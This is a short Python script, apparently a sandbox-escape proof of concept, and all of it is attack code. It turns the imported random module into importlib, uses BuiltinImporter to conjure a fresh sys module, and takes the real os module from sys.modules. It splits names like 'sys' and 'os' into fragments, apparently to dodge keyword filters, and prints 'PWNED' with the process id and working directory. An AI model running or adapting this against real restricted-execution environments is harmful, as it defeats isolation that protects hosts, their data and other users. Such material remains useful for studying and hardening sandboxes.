import random
type(random).__init__(random, "import" + "lib")
from random import machinery
print(machinery)
class S:
    name = "sy" + "s"
s = machinery.BuiltinImporter.create_module(S())
mods = s.modules
real_os = mods["o" + "s"]
print("PW" + "NED", real_os.getpid(), "real sys.modules:", len(mods), real_os.getcwd())
